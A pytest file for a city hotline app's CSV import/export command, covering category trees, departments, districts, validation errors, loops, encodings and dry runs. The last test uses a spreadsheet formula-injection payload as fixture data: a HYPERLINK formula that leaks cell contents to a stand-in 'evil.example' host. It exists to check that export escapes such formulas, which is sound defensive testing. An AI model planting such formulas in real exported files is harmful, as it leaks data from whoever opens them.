"""`flask directory load|export`: a city's departments, districts and category tree from a CSV
file, as an administrator sets up a new hotline (docs/production.md)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import func, select

from hotline.extensions import db
from hotline.models import Category, Department, District
from tests import factories

CITY = """\ufeffkind,code,name,parent,department
category,potholes,道路坑洼,roads-and-bridges,
category,roads-and-bridges,城乡建设,,roads
department,roads,道路管理局,,
department,roads-east,道路管理局东城分局,roads,
district,east,东城区,,

category,water-supply,供水,,water
department,water,水务局,,
"""


def _write(tmp_path: Path, text: str, name: str = "directory.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def test_a_new_city_is_loaded_whatever_the_order_of_its_rows(runner, tmp_path):
    result = runner.invoke(args=["directory", "load", str(_write(tmp_path, CITY))])
    assert result.exit_code == 0, result.output
    assert "category: 3 created" in result.output and "department: 3 created" in result.output
    potholes = db.session.scalar(select(Category).where(Category.code == "potholes"))
    assert potholes.parent.code == "roads-and-bridges" and potholes.default_department is None
    # Routing falls back on the parent's default department, as for any category tree.
    assert potholes.routing_department.code == "roads"
    assert db.session.scalar(select(Department).where(Department.code == "roads-east")).parent.code == "roads"
    assert db.session.scalar(select(District.name).where(District.code == "east")) == "东城区"


def test_loading_again_updates_by_code_and_duplicates_nothing(runner, tmp_path):
    runner.invoke(args=["directory", "load", str(_write(tmp_path, CITY))])
    renamed = CITY.replace("水务局", "市水务局").replace(
        "category,water-supply,供水,,water", "category,water-supply,供水,,roads"
    )
    result = runner.invoke(args=["directory", "load", str(_write(tmp_path, renamed))])
    assert result.exit_code == 0, result.output
    assert "department: 0 created, 1 updated, 2 unchanged" in result.output
    assert "category: 0 created, 1 updated, 2 unchanged" in result.output
    assert (_count(Department), _count(Category), _count(District)) == (3, 3, 1)
    water = db.session.scalar(select(Category).where(Category.code == "water-supply"))
    assert water.default_department.code == "roads"


def test_a_file_with_errors_loads_nothing_and_names_each_line(runner, tmp_path):
    bad = (
        "kind,code,name,parent,department\n"
        "department,roads,道路管理局,,\n"  # line 2: fine, but the file fails as a whole
        "agency,nypd,Police,,\n"  # 3: unknown kind
        "category,Bad Code!,坑,,\n"  # 4: not a code
        "category,potholes,,,\n"  # 5: no name
        "category,lights,路灯,street,\n"  # 6: unknown parent
        "category,signs,路牌,,police\n"  # 7: unknown department
        "district,east,东城区,city,\n"  # 8: a district with a parent
        "department,roads,道路局,,\n"  # 9: the same code twice
        "category,a,甲,b,\n"  # 10 and 11: a loop
        "category,b,乙,a,\n"
    )
    result = runner.invoke(args=["directory", "load", str(_write(tmp_path, bad))])
    assert result.exit_code == 1
    for line in (3, 4, 5, 6, 7, 8, 9, 10, 11):
        assert f"line {line}:" in result.output, line
    assert "line 2:" not in result.output
    assert "nothing was loaded" in result.output
    assert (_count(Department), _count(Category), _count(District)) == (0, 0, 0)


def test_a_loop_through_the_database_is_refused(runner, tmp_path, city):
    # infrastructure is potholes' parent in the database: making it potholes' child is a loop.
    result = runner.invoke(
        args=[
            "directory",
            "load",
            str(_write(tmp_path, "kind,code,name,parent\ncategory,infrastructure,城乡建设,potholes\n")),
        ]
    )
    assert result.exit_code == 1 and "line 2:" in result.output and "own ancestor" in result.output
    assert db.session.scalar(select(Category).where(Category.code == "infrastructure")).parent is None


@pytest.mark.parametrize(
    ("text", "message"),
    [("code,name\nroads,道路\n", "the header needs the columns"), ("", "the header needs the columns")],
)
def test_a_file_without_the_columns_is_refused(runner, tmp_path, text, message):
    result = runner.invoke(args=["directory", "load", str(_write(tmp_path, text))])
    assert result.exit_code == 1 and message in result.output


def test_a_file_in_another_encoding_is_a_clear_error(runner, tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes("kind,code,name\ndepartment,roads,道路管理局\n".encode("gb18030"))
    result = runner.invoke(args=["directory", "load", str(path)])
    assert result.exit_code == 1 and "--encoding gb18030" in result.output
    assert runner.invoke(args=["directory", "load", "--encoding", "gb18030", str(path)]).exit_code == 0
    assert db.session.scalar(select(Department.name).where(Department.code == "roads")) == "道路管理局"


def test_a_dry_run_saves_nothing(runner, tmp_path):
    result = runner.invoke(args=["directory", "load", "--dry-run", str(_write(tmp_path, CITY))])
    assert result.exit_code == 0, result.output
    assert "category: 3 to create" in result.output and "dry run" in result.output
    assert _count(Category) == 0


def test_export_reads_back_as_it_is(runner, tmp_path, city):
    factories.make_category("street-lights", city.roads, city.infrastructure, name="路灯")
    exported = tmp_path / "out.csv"
    assert runner.invoke(args=["directory", "export", str(exported)]).exit_code == 0
    text = exported.read_text(encoding="utf-8")
    assert "category,street-lights,路灯,infrastructure,roads" in text
    assert text.index("category,infrastructure,") < text.index("category,street-lights,")  # parents first
    result = runner.invoke(args=["directory", "load", str(exported)])
    assert result.exit_code == 0, result.output
    assert " 0 created, 0 updated" in result.output and "1 updated" not in result.output


def test_a_name_that_reads_as_a_formula_is_exported_as_text_and_loads_back(runner, tmp_path, city):
    formula = '=HYPERLINK("http://evil.example/?leak="&A2&B2;"Click")'
    city.roads.name = formula
    city.potholes.name = "-1+2"
    db.session.commit()
    exported = tmp_path / "out.csv"
    assert runner.invoke(args=["directory", "export", str(exported)]).exit_code == 0
    rows = {(row["kind"], row["code"]): row for row in csv.DictReader(io.StringIO(exported.read_text("utf-8")))}
    assert rows[("department", "roads")]["name"] == "'" + formula
    assert rows[("category", "potholes")]["name"] == "'-1+2"
    assert not [row for row in rows.values() for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
    result = runner.invoke(args=["directory", "load", str(exported)])
    assert result.exit_code == 0, result.output
    assert " 0 created, 0 updated" in result.output and "1 updated" not in result.output
    db.session.expire_all()
    assert (db.session.get(Department, city.roads.id).name, db.session.get(Category, city.potholes.id).name) == (
        formula,
        "-1+2",
    )
